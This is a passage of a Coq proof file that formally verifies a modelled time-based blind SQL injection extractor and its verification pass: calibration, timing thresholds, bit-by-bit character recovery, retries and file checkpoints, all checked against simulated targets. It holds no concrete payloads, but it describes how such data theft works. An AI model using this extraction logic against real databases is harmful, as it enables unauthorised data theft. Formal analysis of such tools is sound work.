    rewrite Nat.sub_0_r, Z2Nat.id in Helem by lia. by apply Helem.
Qed.

(** C4 at work: thirty positions against a target that cannot be reached;
    the checkpoint after the twenty-fifth is in the log of the run. *)
Lemma extraction_checkpoints_witness :
  exists (result result_k : string) (w_end w_k : World unit),
    BlindSQLInjection.extract_string (Transport0 := unreachable)
      (BlindSQLInjection.__init__ "http://target" 60000000) 30
      "extracted_output.txt" (mkWorld tt [] ∅) = (Ok result, w_end) /\
    for_fold (range 1 (25 + 1) 1)
      (BlindSQLInjection.extract_string_body (Transport0 := unreachable)
         (BlindSQLInjection.__init__ "http://target" 60000000)
         "extracted_output.txt")
      EmptyString (mkWorld tt [] ∅) = (Ok result_k, w_k) /\
    len result_k = 25 /\
    files w_k !! "extracted_output.txt" = Some result_k /\
    (length (sent w_k), "extracted_output.txt", result_k) ∈ written w_end.
Proof.
  destruct (extraction_checkpoints (Transport0 := unreachable)
    (BlindSQLInjection.__init__ "http://target" 60000000) 30
    "extracted_output.txt" (mkWorld tt [] ∅))
    as (result & turns & w_end & Hrun & _ & _ & _ & _ & Hk).
  destruct (Hk 25 ltac:(lia) ltac:(reflexivity))
    as (result_k & w_k & Hrun_k & Hlen & _ & Hfile & _ & _ & Hlog).
  exists result, result_k, w_end, w_k.
  split; [exact Hrun|]. split; [exact Hrun_k|]. split; [exact Hlen|].
  split; [exact Hfile|exact Hlog].
Defined.

(** ** One turn of the verification pass *)

Lemma get_in_range (s : string) (i : nat) :
  (i < String.length s)%nat -> exists c, String.get i s = Some c.
Proof.
  revert i. induction s as [|c s IH]; intros i Hi; cbn in Hi; [lia|].
  destruct i as [|i]; cbn; [eauto|]. apply IH. lia.
Qed.

Lemma getitem_get (s : string) (position : Z) :
  1 <= position ->
  getitem s (position - 1) =
  match String.get (Z.to_nat (position - 1)) s with
  | Some c => Ok c
  | None => Raise IndexError
  end.
Proof.
  intros Hp. unfold getitem.
  replace (position - 1 <? 0) with false by lia.
  by replace (position - 1 <? 0) with false by lia.
Qed.

Lemma getitem_in_range (s : string) (position : Z) :
  1 <= position <= len s -> exists c, getitem s (position - 1) = Ok c.
Proof.
  intros Hp. rewrite getitem_get by lia.
  destruct (get_in_range s (Z.to_nat (position - 1))) as [c ->];
    [unfold len in Hp; lia|eauto].
Qed.

Lemma getitem_append_old (a b : string) (position : Z) :
  1 <= position <= len a ->
  getitem (a +:+ b) (position - 1) = getitem a (position - 1).
Proof.
  intros Hp. rewrite !getitem_get by lia.
  rewrite <- append_correct1; [done|]. unfold len in Hp. lia.
Qed.

Lemma getitem_append_new (a : string) (c : ascii) :
  getitem (a +:+ String c EmptyString) (len a + 1 - 1) = Ok c.
Proof.
  rewrite getitem_get by (unfold len; lia).
  replace (Z.to_nat (len a + 1 - 1)) with (0 + String.length a)%nat
    by (unfold len; lia).
  by rewrite <- append_correct2.
Qed.

Section VerifyTurn.
Context {S : Type} `{!Transport S}.
Variables (self : ExtractionVerifier.t) (output_file extracted : string).

Local Notation "'url'" := (reset_url (ExtractionVerifier.server self)).
Local Notation "'thr'" := (ExtractionVerifier.threshold self).
Local Notation "'body'" :=
  (ExtractionVerifier.verify_body self output_file extracted).

Lemma character_matches_matching (position : Z) (expected_char : ascii)
    (num_samples : Z) :
  ExtractionVerifier._character_matches self position expected_char
    num_samples =
  matching url
    (NotEqual position (ord expected_char)
       (ExtractionVerifier.delay_size self))
    thr (range 0 num_samples 1).
Proof. reflexivity. Qed.

Lemma range_one_sample : range 0 1 1 = [0].
Proof. reflexivity. Qed.

Lemma net_checkpointed (corrected : string) (position : Z) (w : World S) :
  net (checkpointed output_file corrected position w) = net w.
Proof. unfold checkpointed. by destruct (position mod 50 =? 0). Qed.

Lemma files_checkpointed (corrected : string) (position : Z)
    (w : World S) :
  files (checkpointed output_file corrected position w) =
  if position mod 50 =? 0
  then <[output_file := corrected]> (files w)
  else files w.
Proof. unfold checkpointed. by destruct (position mod 50 =? 0). Qed.

(** A turn, unfolded along the answer of [_character_matches]. *)
Lemma verify_body_unfold (corrected : string) (mismatches : list Z)
    (position : Z) (expected : ascii) (w : World S) :
  getitem extracted (position - 1) = Ok expected ->
  body (corrected, mismatches) position w =
  match ExtractionVerifier._character_matches self position expected 1
          (checkpointed output_file corrected position w) with
  | (Ok true, w1) =>
      (Ok (corrected +:+ String expected EmptyString, mismatches), w1)
  | (Ok false, w1) =>
      match ExtractionVerifier._extract_character self position 7 w1 with
      | (Ok ch, w2) =>
          (Ok (corrected +:+ String ch EmptyString,
               mismatches ++ [position]), w2)
      | (Raise e, w2) => (Raise e, w2)
      end
  | (Raise e, w1) => (Raise e, w1)
  end.
Proof.
  intros Hget.
  unfold ExtractionVerifier.verify_body, checkpointed, bind, lift.
  rewrite Hget.
  assert (Hw : forall m : M S unit,
             (m = write_file output_file corrected \/ m = ret tt) ->
             exists w0, m w = (Ok tt, w0)).
  { intros m [-> | ->]; eexists; reflexivity. }
  destruct (Hw (if position mod 50 =? 0
                then write_file output_file corrected else ret tt))
    as [w0 Hw0]; [destruct (position mod 50 =? 0); auto|].
  rewrite Hw0. cbn [snd].
  destruct (ExtractionVerifier._character_matches self position expected
              1 w0) as [[[|]|e] w1]; [done| |done].
  unfold ret.
  by destruct (ExtractionVerifier._extract_character self position 7 w1)
    as [[ch|e] w2].
Qed.

(** A turn never fails: it appends one character, the expected one when
    the check answers "matches", and otherwise the character rebuilt at
    seven samples, with the position recorded. *)
Lemma verify_body_spec (corrected : string) (mismatches : list Z)
    (position : Z) (expected : ascii) (w : World S) :
  getitem extracted (position - 1) = Ok expected ->
  exists (is_correct : bool) (w1 : World S),
    ExtractionVerifier._character_matches self position expected 1
      (checkpointed output_file corrected position w) =
    (Ok is_correct, w1) /\
    files w1 = files (checkpointed output_file corrected position w) /\
    if is_correct then
      body (corrected, mismatches) position w =
      (Ok (corrected +:+ String expected EmptyString, mismatches), w1)
    else
      exists (ch : ascii) (w2 : World S),
        ExtractionVerifier._extract_character self position 7 w1 =
        (Ok ch, w2) /\
        files w2 = files w1 /\
        body (corrected, mismatches) position w =
        (Ok (corrected +:+ String ch EmptyString,
             mismatches ++ [position]), w2).
Proof.
  intros Hget. rewrite (verify_body_unfold _ _ _ _ _ Hget).
  rewrite character_matches_matching.
  destruct (matching_total url
              (NotEqual position (ord expected)
                 (ExtractionVerifier.delay_size self))
              thr (range 0 1 1)
              (checkpointed output_file corrected position w))
    as (v & n & ->).
  exists v; eexists. split; [reflexivity|]. split; [reflexivity|].
  destruct v; [reflexivity|].
  destruct (verifier_extract_character_total self position 7
              (probed url
                 (NotEqual position (ord expected)
                    (ExtractionVerifier.delay_size self)) n
                 (checkpointed output_file corrected position w)))
    as (ch & w2 & Hch & Hfiles).
  exists ch, w2. by rewrite Hch.
Qed.

End VerifyTurn.

(** C6, as the code has it: retries after a slow inequality answer.  In a
    turn of the verification pass, when the first answer to the inequality
    question took longer than the threshold, the same question is asked up
    to three more times.  At the first retry that is a conclusive fast
    answer the retries stop and the original character is kept, with no
    mismatch recorded.  The position is declared a mismatch, its character
    rebuilt at seven samples and the position recorded, exactly when no
    retry is a conclusive fast answer, that is when each retry is slow or a
    channel failure. *)
Theorem retries_decide_mismatch {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t) (output_file extracted corrected : string)
    (mismatches : list Z) (position : Z) (expected : ascii) (w : World S)
    (elapsed : Q) (retries : list (option Q)) :
  getitem extracted (position - 1) = Ok expected ->
  replies (reset_url (ExtractionVerifier.server self))
    (NotEqual position (ord expected) (ExtractionVerifier.delay_size self))
    4 (net w) = Some elapsed :: retries ->
  (ExtractionVerifier.threshold self < elapsed)%Q ->
  (forall before r rest,
      retries = before ++ r :: rest ->
      Forall (not_fast (ExtractionVerifier.threshold self)) before ->
      fast_sample (ExtractionVerifier.threshold self) r = true ->
      ExtractionVerifier.verify_body self output_file extracted
        (corrected, mismatches) position w =
      (Ok (corrected +:+ String expected EmptyString, mismatches),
       probed (reset_url (ExtractionVerifier.server self))
         (NotEqual position (ord expected)
            (ExtractionVerifier.delay_size self))
         (2 + length before)
         (checkpointed output_file corrected position w))) /\
  (Forall (not_fast (ExtractionVerifier.threshold self)) retries ->
   exists (ch : ascii) (w' : World S),
     ExtractionVerifier._extract_character self position 7
       (probed (reset_url (ExtractionVerifier.server self))
          (NotEqual position (ord expected)
             (ExtractionVerifier.delay_size self))
          4 (checkpointed output_file corrected position w)) =
     (Ok ch, w') /\
     ExtractionVerifier.verify_body self output_file extracted
       (corrected, mismatches) position w =
     (Ok (corrected +:+ String ch EmptyString, mismatches ++ [position]),
      w')) /\
  (fst (ExtractionVerifier._character_matches self position expected 1
          (checkpointed output_file corrected position w)) = Ok false <->
   Forall (not_fast (ExtractionVerifier.threshold self)) retries).
Proof.
  intros Hget Hrs Hslow.
  set (url := reset_url (ExtractionVerifier.server self)) in *.
  set (inj := NotEqual position (ord expected)
                (ExtractionVerifier.delay_size self)) in *.
  set (thr := ExtractionVerifier.threshold self) in *.
  set (w0 := checkpointed output_file corrected position w).
  assert (Hrs0 : replies url inj 4 (net w0) = Some elapsed :: retries).
  { unfold w0. by rewrite net_checkpointed. }
  destruct (matching_once_retries url inj thr 0 w0 elapsed retries Hrs0 Hslow)
    as [Hmatch Hretries].
  assert (Hfast : forall before r rest,
             retries = before ++ r :: rest ->
             Forall (not_fast thr) before ->
             fast_sample thr r = true ->
             ExtractionVerifier._character_matches self position expected
               1 w0 = (Ok true, probed url inj (2 + length before) w0)).
  { intros before r rest Hsplit Hb Hr.
    rewrite character_matches_matching, range_one_sample.
    fold url inj thr. rewrite Hmatch.
    rewrite (retrying_fast url inj thr before rest r);
      [by rewrite probed_probed| |done|done].
    change (length (range 0 3 1)) with 3%nat. by rewrite Hretries. }
  assert (Hnone : Forall (not_fast thr) retries ->
             ExtractionVerifier._character_matches self position expected
               1 w0 = (Ok false, probed url inj 4 w0)).
  { intros Hall.
    rewrite character_matches_matching, range_one_sample.
    fold url inj thr. rewrite Hmatch.
    rewrite retrying_slow; [by rewrite probed_probed|].
    change (length (range 0 3 1)) with 3%nat. by rewrite Hretries. }
  split; [|split].
  - intros before r rest Hsplit Hb Hr.
    rewrite (verify_body_unfold _ _ _ _ _ _ _ _ Hget). fold w0.
    by rewrite (Hfast before r rest).
  - intros Hall.
    destruct (verifier_extract_character_total self position 7
                (probed url inj 4 w0)) as (ch & w' & Hch & _).
    exists ch, w'. split; [exact Hch|].
    rewrite (verify_body_unfold _ _ _ _ _ _ _ _ Hget). fold w0.
    by rewrite (Hnone Hall), Hch.
  - split; [|by intros Hall; rewrite (Hnone Hall)].
    intros Hfalse.
    destruct (first_fast thr retries)
      as [Hall|(before & r & rest & Hsplit & Hb & Hr)]; [done|].
    by rewrite (Hfast before r rest) in Hfalse.
Qed.

(** C6 at work: a slow first answer, then a slow retry and a fast one. *)
Lemma retries_decide_mismatch_witness :
  ExtractionVerifier.verify_body (Transport0 := scripted)
    (ExtractionVerifier.__init__ "http://target" 60000000)
    "verified_output.txt" "A" (EmptyString, []) 1
    (mkWorld [Some 1%Q; Some 1%Q; Some 0.125%Q; Some 1%Q] [] ∅) =
  (Ok ("A", []),
   mkWorld [Some 1%Q] (repeat (NotEqual 1 65 60000000) 3) ∅).
Proof.
  apply (proj1 (retries_decide_mismatch (Transport0 := scripted)
    (ExtractionVerifier.__init__ "http://target" 60000000)
    "verified_output.txt" "A" EmptyString [] 1 "A"
    (mkWorld [Some 1%Q; Some 1%Q; Some 0.125%Q; Some 1%Q] [] ∅)
    1%Q [Some 1%Q; Some 0.125%Q; Some 1%Q]
    ltac:(reflexivity) ltac:(reflexivity) ltac:(reflexivity))
    [Some 1%Q] (Some 0.125%Q) [Some 1%Q]).
  - reflexivity.
  - repeat constructor.
  - reflexivity.
Defined.

(** C6 as worded fails: after a slow first answer, three retries that all
    fail are not slow, and the position is declared a mismatch all the
    same. *)
Lemma retries_need_not_be_slow : ~ mismatch_only_if_all_retries_slow.
Proof.
  intros Hclaim.
  specialize (Hclaim (list (option Q)) scripted
    (ExtractionVerifier.__init__ "http://target" 60000000) 1 "A"%char
    (mkWorld [Some 1%Q; None; None; None] [] ∅)
    (Some 1%Q) [None; None; None]
    ltac:(reflexivity) ltac:(reflexivity) ltac:(reflexivity)).
  apply Forall_cons in Hclaim as [Hslow _]. discriminate Hslow.
Qed.

(** ** The verification pass *)

Section VerifyLoop.
Context {S : Type} `{!Transport S}.
Variables (self : ExtractionVerifier.t) (output_file extracted : string).
Variable w : World S.

Local Notation "'decided'" :=
  (decided_at self output_file extracted w).

(** What is settled about a position stays settled as the loop appends. *)
Lemma decided_at_later (corrected added : string)
    (mismatches mismatches' : list Z) (position : Z) :
  1 <= position <= len corrected ->
  (position ∈ mismatches' <-> position ∈ mismatches) ->
  decided corrected mismatches position ->
  decided (corrected +:+ added) mismatches' position.
Proof.
  intros Hp Hin
    (earlier & recorded & w_p & expected & is_correct & w1 &
     Hrun & Hget & Hmatch & Hiff & Hout).
  exists earlier, recorded, w_p, expected, is_correct, w1.
  split; [exact Hrun|]. split; [exact Hget|]. split; [exact Hmatch|].
  split; [by rewrite Hin|].
  destruct is_correct.
  - by rewrite getitem_append_old.
  - destruct Hout as (ch & w2 & Hch & Hout). exists ch, w2.
    by rewrite getitem_append_old.
Qed.

(** The state after [k] positions. *)
Lemma verify_loop_invariant (k : nat) :
  Z.of_nat k <= len extracted ->
  exists (corrected : string) (mismatches : list Z) (w_k : World S),
    verified_up_to self output_file extracted (Z.of_nat k) w =
    (Ok (corrected, mismatches), w_k) /\
    String.length corrected = k /\
    StronglySorted Z.lt mismatches /\
    Forall (fun p => 1 <= p <= Z.of_nat k) mismatches /\
    (forall p, 1 <= p <= Z.of_nat k -> decided corrected mismatches p) /\
    ((0 < k)%nat -> Z.of_nat k mod 50 = 0 ->
     files w_k !! output_file =
     Some (substring 0 (k - 1) corrected)).
Proof.
  induction k as [|k IH]; intros Hk.
  { exists EmptyString, [], w. repeat split; try constructor; lia. }
  destruct IH
    as (corrected & mismatches & w_k & Hrun & Hlen & Hsorted & Hbound &
        Hdecided & _); [lia|].
  set (position := Z.of_nat k + 1).
  assert (Hposition : Z.of_nat (Datatypes.S k) = position)
    by (unfold position; lia).
  destruct (getitem_in_range extracted position) as [expected Hget];
    [lia|].
  destruct (verify_body_spec self output_file extracted corrected
              mismatches position expected w_k Hget)
    as (is_correct & w1 & Hmatch & Hfiles1 & Hbody).
  assert (Hfresh : position ∉ mismatches).
  { intros Hin. rewrite Forall_forall in Hbound.
    specialize (Hbound _ Hin). lia. }
  assert (Hlen' : len corrected = Z.of_nat k) by (unfold len; lia).
  assert (Hearlier : verified_up_to self output_file extracted
                       (position - 1) w = (Ok (corrected, mismatches), w_k)).
  { replace (position - 1) with (Z.of_nat k) by lia. exact Hrun. }
  assert (Hnew : forall c, getitem (corrected +:+ String c EmptyString)
                             (position - 1) = Ok c).
  { intros c. unfold position. rewrite <- Hlen'.
    apply getitem_append_new. }
  assert (Hfile : forall (c : ascii) (w' : World S),
             files w' = files w1 ->
             (0 < Datatypes.S k)%nat -> position mod 50 = 0 ->
             files w' !! output_file =
             Some (substring 0 (Datatypes.S k - 1)
                     (corrected +:+ String c EmptyString))).
  { intros c w' Hw' _ Hmod.
    rewrite Hw', Hfiles1, files_checkpointed, Hmod. cbn [Z.eqb].
    rewrite lookup_insert_eq. f_equal.
    replace (Datatypes.S k - 1)%nat with (String.length corrected) by lia.
    by rewrite substring_prefix. }
  unfold verified_up_to in *.
  rewrite range_positions_snoc, (for_fold_snoc _ _ _ _ _ _ _ Hrun).
  fold position. rewrite Hposition.
  destruct is_correct.
  - rewrite Hbody.
    exists (corrected +:+ String expected EmptyString), mismatches, w1.
    split; [reflexivity|]. split.
    { rewrite length_append, Hlen. cbn. lia. }
    split; [exact Hsorted|]. split.
    { eapply Forall_impl; [exact Hbound|]. intros p Hp. cbn in Hp. lia. }
    split; [|by apply Hfile].
    intros p Hp. destruct (decide (p = position)) as [->|Hne].
    + exists corrected, mismatches, w_k, expected, true, w1.
      split; [exact Hearlier|]. split; [exact Hget|].
      split; [exact Hmatch|]. split; [done|]. apply Hnew.
    + apply (decided_at_later corrected _ mismatches); [lia|done|].
      apply Hdecided. lia.
  - destruct Hbody as (ch & w2 & Hch & Hfiles2 & Hbody). rewrite Hbody.
    exists (corrected +:+ String ch EmptyString),
      (mismatches ++ [position]), w2.
    split; [reflexivity|]. split.
    { rewrite length_append, Hlen. cbn. lia. }
    split.
    { apply StronglySorted_app_2; [|exact Hsorted|repeat constructor].
      intros x1 x2 Hx1 Hx2. apply list_elem_of_singleton in Hx2 as ->.
      rewrite Forall_forall in Hbound. specialize (Hbound _ Hx1). lia. }
    split.
    { apply Forall_app. split.
      - eapply Forall_impl; [exact Hbound|]. intros p Hp. cbn in Hp. lia.
      - repeat constructor; lia. }
    split; [|by intros; apply Hfile; [congruence|..]].
    intros p Hp. destruct (decide (p = position)) as [->|Hne].
    + exists corrected, mismatches, w_k, expected, false, w1.
      split; [exact Hearlier|]. split; [exact Hget|].
      split; [exact Hmatch|]. split.
      { split; [done|]. intros _. apply elem_of_app. right.
        by apply list_elem_of_singleton. }
      exists ch, w2. split; [exact Hch|]. by rewrite Hnew.
    + apply (decided_at_later corrected _ mismatches);
        [lia| |apply Hdecided; lia].
      rewrite elem_of_app, list_elem_of_singleton.
      split; [by intros [?|?]|by left].
Qed.

End VerifyLoop.

(** C10: what the verification pass leaves alone.  When the input file
    exists, [verify_and_correct] returns a corrected string as long as the
    string it read; the mismatch list is strictly increasing and holds
    positions between 1 and that length; at every position that is not in
    the list the corrected character is the input character; and the list
    holds exactly the positions where the check answered "mismatch" and the
    character rebuilt at seven samples was put in ([decided_at]). *)
Theorem verification_frame {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t) (input_file output_file : string)
    (w : World S) (text : string) :
  files w !! input_file = Some text ->
  exists (corrected : string) (mismatches : list Z) (w_end : World S),
    ExtractionVerifier.verify_and_correct self input_file output_file w =
    (Ok (corrected, mismatches), w_end) /\
    len corrected = len (universal_newlines text) /\
    StronglySorted Z.lt mismatches /\
    Forall (fun p => 1 <= p <= len (universal_newlines text)) mismatches /\
    (forall p, 1 <= p <= len (universal_newlines text) ->
               p ∉ mismatches ->
               getitem corrected (p - 1) =
               getitem (universal_newlines text) (p - 1)) /\
    (forall p, 1 <= p <= len (universal_newlines text) ->
               decided_at self output_file (universal_newlines text) w
                 corrected mismatches p).
Proof.
  intros Hfile.
  set (extracted := universal_newlines text).
  destruct (verify_loop_invariant self output_file extracted w
              (String.length extracted))
    as (corrected & mismatches & w_k & Hrun & Hlen & Hsorted & Hbound &
        Hdecided & _); [unfold len; lia|].
  fold (len extracted) in Hrun, Hbound, Hdecided.
  exists corrected, mismatches.
  unfold ExtractionVerifier.verify_and_correct, bind, read_file.
  rewrite Hfile. fold extracted.
  unfold verified_up_to in Hrun. rewrite Hrun.
  eexists. split; [reflexivity|]. split; [unfold len; lia|].
  split; [exact Hsorted|]. split; [exact Hbound|].
  split; [|exact Hdecided].
  intros p Hp Hout.
  destruct (Hdecided p Hp)
    as (earlier & recorded & w_p & expected & is_correct & w1 &
        _ & Hget & _ & Hiff & Hchar).
  destruct is_correct; [congruence|].
  exfalso. apply Hout. by apply Hiff.
Qed.

(** C10 at work: the two-character file ["AC"] checked against the
    simulated target with key ["AB"]. *)
Lemma verification_frame_witness :
  exists (corrected : string) (mismatches : list Z) (w_end : World unit),
    ExtractionVerifier.verify_and_correct
      (Transport0 := noise_free "AB" 0.25 1)
      (ExtractionVerifier.__init__ "http://target" 60000000)
      "extracted_output.txt" "verified_output.txt"
      (mkWorld tt [] {[ "extracted_output.txt" := "AC" ]}) =
    (Ok (corrected, mismatches), w_end) /\
    len corrected = 2 /\
    StronglySorted Z.lt mismatches.
Proof.
  destruct (verification_frame (Transport0 := noise_free "AB" 0.25 1)
    (ExtractionVerifier.__init__ "http://target" 60000000)
    "extracted_output.txt" "verified_output.txt"
    (mkWorld tt [] {[ "extracted_output.txt" := "AC" ]}) "AC")
    as (corrected & mismatches & w_end & Hrun & Hlen & Hsorted & _);
    [reflexivity|].
  exists corrected, mismatches, w_end.
  split; [exact Hrun|]. split; [exact Hlen|exact Hsorted].
Defined.

(** On every channel, right after a position [k] that is a multiple of 50
    the file holds the first [k - 1] characters of the [k] corrected so
    far. *)
Lemma verification_checkpoint_behind {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t) (output_file extracted : string)
    (w : World S) (k : Z) :
  1 <= k <= len extracted ->
  k mod 50 = 0 ->
  exists (corrected : string) (mismatches : list Z) (w_k : World S),
    verified_up_to self output_file extracted k w =
    (Ok (corrected, mismatches), w_k) /\
    len corrected = k /\
    files w_k !! output_file =
    Some (substring 0 (Z.to_nat (k - 1)) corrected).
Proof.
  intros Hk Hmod.
  destruct (verify_loop_invariant self output_file extracted w (Z.to_nat k))
    as (corrected & mismatches & w_k & Hrun & Hlen & _ & _ & _ & Hfile);
    [lia|].
  rewrite Z2Nat.id in Hrun, Hfile by lia.
  exists corrected, mismatches, w_k. split; [exact Hrun|].
  split; [unfold len; lia|].
  rewrite Hfile by (lia || done). do 2 f_equal. lia.
Qed.

(** C7: in the verification pass the checkpoint lags by one character.
    The input is fifty letters A and the simulated target holds the same
    fifty letters, so every position is accepted.  Right after the 50th
    position the corrected string has fifty characters, but the file holds
    its first forty-nine only: the turn writes the file before it checks
    its own character.  At completion the file holds all fifty. *)
Theorem verification_checkpoint_lags :
  fst (verified_up_to (Transport0 := noise_free fifty_As 0.25 1)
         (ExtractionVerifier.__init__ "http://target" 60000000)
         "verified_output.txt" fifty_As 50
         (mkWorld tt [] {[ "extracted_output.txt" := fifty_As ]})) =
  Ok (fifty_As, []) /\
  files
    (snd (verified_up_to (Transport0 := noise_free fifty_As 0.25 1)
            (ExtractionVerifier.__init__ "http://target" 60000000)
            "verified_output.txt" fifty_As 50
            (mkWorld tt [] {[ "extracted_output.txt" := fifty_As ]})))
    !! "verified_output.txt" = Some (substring 0 49 fifty_As) /\
  substring 0 49 fifty_As <> substring 0 50 fifty_As /\
  ExtractionVerifier.verify_and_correct
    (Transport0 := noise_free fifty_As 0.25 1)
    (ExtractionVerifier.__init__ "http://target" 60000000)
    "extracted_output.txt" "verified_output.txt"
    (mkWorld tt [] {[ "extracted_output.txt" := fifty_As ]}) =
  (Ok (fifty_As, []),
   MkWorld tt
     (flat_map (fun p => [NotEqual p 65 60000000]) (rev (range 1 51 1)))
     (<["verified_output.txt" := fifty_As]>
        {[ "extracted_output.txt" := fifty_As ]})
     [(50%nat, "verified_output.txt", fifty_As);
      (49%nat, "verified_output.txt", substring 0 49 fifty_As)]).
Proof.
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  split; [vm_compute; discriminate|].
  vm_compute; reflexivity.
Qed.

(** ** The threshold *)

Lemma Qltb_Qle_bool (elapsed threshold : Q) :
  Qltb elapsed threshold = negb (Qle_bool threshold elapsed).
Proof.
  destruct (Qle_bool threshold elapsed) eqn:E; cbn [negb].
  - apply Qltb_ge. by apply Qle_bool_iff.
  - apply Qltb_lt. apply Qnot_le_lt. intros Hle.
    apply Qle_bool_iff in Hle. congruence.
Qed.

(** In a bit decision each answer is read as the specification's oracle
    reads it: a conclusive fast answer is one whose verdict is [Fast]. *)
Lemma fast_sample_verdict (threshold : Q) (r : option Q) :
  fast_sample threshold r = true <-> spec_verdict threshold r = Fast.
Proof.
  destruct r as [e|]; cbn; [|done].
  rewrite Qltb_Qle_bool. by destruct (Qle_bool threshold e).
Qed.


(** The first answer of the match check is read differently: an elapsed
    time equal to the threshold, [Slow] for the oracle, opens no retry and
    the character is accepted. *)
Lemma matching_at_threshold {S : Type} `{!Transport S} (url : string)
    (inj : injection) (threshold elapsed : Q) (x : Z) (w : World S) :
  fst (post url inj (net w)) = Some elapsed ->
  (elapsed == threshold)%Q ->
  spec_verdict threshold (Some elapsed) = Slow /\
  matching url inj threshold [x] w = (Ok true, probed url inj 1 w).
Proof.
  intros Hpost Heq. split.
  - cbn. replace (Qle_bool threshold elapsed) with true; [done|].
    symmetry. apply Qle_bool_iff. rewrite Heq. apply Qle_refl.
  - apply (matching_once_accepts url inj threshold x w (Some elapsed) Hpost).
    apply Qltb_ge. rewrite Heq. apply Qle_refl.
Qed.








(** ** Channel failures *)

(** [calibrate] needs both of its measurements. *)
Lemma calibrate_needs_measurements {S : Type} `{!Transport S}
    (self : BlindSQLInjection.t) (w : World S) :
  fst (post (reset_url (BlindSQLInjection.server self))
         (Calibration false) (net w)) = None ->
  fst (BlindSQLInjection.calibrate self w) = Raise TypeError.
Proof.
  intros Hfail.
  unfold BlindSQLInjection.calibrate, bind,
    BlindSQLInjection._send_injection, reset_url in *.
  cbn [net].
  destruct (post (BlindSQLInjection.server self +:+ "/reset/")
              (Calibration false) (net w)) as [baseline n1].
  cbn in Hfail. subst baseline. cbn [net].
  by destruct (post (BlindSQLInjection.server self +:+ "/reset/")
                 (Calibration true) n1) as [delayed n2].
Qed.

(** The other operations finish on every channel. *)
Lemma extract_string_total {S : Type} `{!Transport S}
    (self : BlindSQLInjection.t) (max_chars : Z) (output_file : string)
    (w : World S) :
  exists (result : string) (w' : World S),
    BlindSQLInjection.extract_string self max_chars output_file w =
    (Ok result, w').
Proof.
  unfold BlindSQLInjection.extract_string, bind.
  destruct (extract_loop_appends self output_file
              (range 1 (max_chars + 1) 1) EmptyString w)
    as (result & w1 & -> & _).
  eexists; eexists; reflexivity.
Qed.

Lemma verify_and_correct_total {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t) (input_file output_file text : string)
    (w : World S) :
  files w !! input_file = Some text ->
  exists (answer : string * list Z) (w' : World S),
    ExtractionVerifier.verify_and_correct self input_file output_file w =
    (Ok answer, w').
Proof.
  intros Hfile.
  destruct (verify_loop_invariant self output_file
              (universal_newlines text) w
              (String.length (universal_newlines text)))
    as (corrected & mismatches & w_k & Hrun & _); [unfold len; lia|].
  unfold ExtractionVerifier.verify_and_correct, bind, read_file.
  rewrite Hfile. unfold verified_up_to in Hrun.
  fold (len (universal_newlines text)) in Hrun. rewrite Hrun.
  eexists; eexists; reflexivity.
Qed.

(** C9: a channel failure is fatal to calibration.  Against a target that
    cannot be reached [calibrate] does not finish: formatting the missing
    baseline raises [TypeError].  On the same channel the bit decision,
    the extraction and the verification all return. *)
Theorem calibrate_fails_without_channel :
  fst (BlindSQLInjection.calibrate (Transport0 := unreachable)
         (BlindSQLInjection.__init__ "http://target" 60000000)
         (mkWorld tt [] ∅)) = Raise TypeError /\
  fst (BlindSQLInjection._extract_bit (Transport0 := unreachable)
         (BlindSQLInjection.__init__ "http://target" 60000000) 1 0 3
         (mkWorld tt [] ∅)) = Ok 1 /\
  fst (BlindSQLInjection.extract_string (Transport0 := unreachable)
         (BlindSQLInjection.__init__ "http://target" 60000000) 2
         "extracted_output.txt" (mkWorld tt [] ∅)) =
  Ok (String (ascii_of_N 255) (String (ascii_of_N 255) EmptyString)) /\
  fst (ExtractionVerifier.verify_and_correct (Transport0 := unreachable)
         (ExtractionVerifier.__init__ "http://target" 60000000)
         "extracted_output.txt" "verified_output.txt"
         (mkWorld tt [] {[ "extracted_output.txt" := "AC" ]})) =
  Ok ("AC", []).
Proof. repeat split; vm_compute; reflexivity. Qed.

(** ** The scenario with the key AB *)

Lemma ord_bounds (c : ascii) : 0 <= ord c < 256.
Proof. unfold ord. pose proof (N_ascii_bounded c). lia. Qed.

(** On a truthful channel a turn of the extraction loop appends the stored
    character, when it is one of the expected ones. *)
Lemma extract_string_body_truthful {S : Type} `{!Transport S}
    (self : BlindSQLInjection.t) (output_file result : string)
    (position : Z) (c : ascii) (w : World S) :
  answers_bits (reset_url (BlindSQLInjection.server self))
    (BlindSQLInjection.delay_size self)
    (BlindSQLInjection.threshold self) position (ord c) ->
  c ∈ BlindSQLInjection.VALID_CHARS ->
  exists w' : World S,
    BlindSQLInjection.extract_string_body self output_file result
      position w = (Ok (result +:+ String c EmptyString), w') /\
    files w' =
    if position mod 25 =? 0
    then <[output_file := result +:+ String c EmptyString]> (files w)
    else files w.
Proof.
  intros Htruth Hvalid.
  unfold BlindSQLInjection.extract_string_body, bind.
  rewrite extract_character_rebuilding.
  destruct (rebuilding_truthful _ _ _ _ _ Htruth 1 w (ord_bounds c))
    as (c' & w1 & Hchr & -> & _ & Hfiles); [lia|].
  rewrite chr_ord in Hchr. injection Hchr as <-.
  rewrite bool_decide_eq_false_2 by (intros Hout; by apply Hout).
  unfold ret, write_file.
  destruct (position mod 25 =? 0); eexists; (split; [reflexivity|]);
    cbn [files]; congruence.
Qed.

Section Scenario.
Variables (fast slow : Q) (server : string) (delay_size : Z).
Hypothesis fast_below : (fast < float_0_42)%Q.
Hypothesis slow_above : (float_0_42 < slow)%Q.

Local Notation "'target'" := (noise_free "AB" fast slow).
Local Notation "'verifier'" :=
  (ExtractionVerifier.__init__ server delay_size).

Lemma scenario_bits (url : string) (position : Z) (c : ascii) :
  unicode_substr "AB" position = Some (ord c) ->
  answers_bits (Transport0 := target) url delay_size float_0_42 position
    (ord c).
Proof.
  apply noise_free_answers_bits; [exact fast_below|].
  by apply Qlt_le_weak.
Qed.

Lemma scenario_extract (output_file : string) (w : World unit) :
  exists w' : World unit,
    BlindSQLInjection.extract_string (Transport0 := target)
      (BlindSQLInjection.__init__ server delay_size) 2 output_file w =
    (Ok "AB", w') /\
    files w' !! output_file = Some "AB".
Proof.
  unfold BlindSQLInjection.extract_string.
  change (range 1 (2 + 1) 1) with [1; 2].
  cbn [for_fold]. unfold bind.
  destruct (extract_string_body_truthful (Transport0 := target)
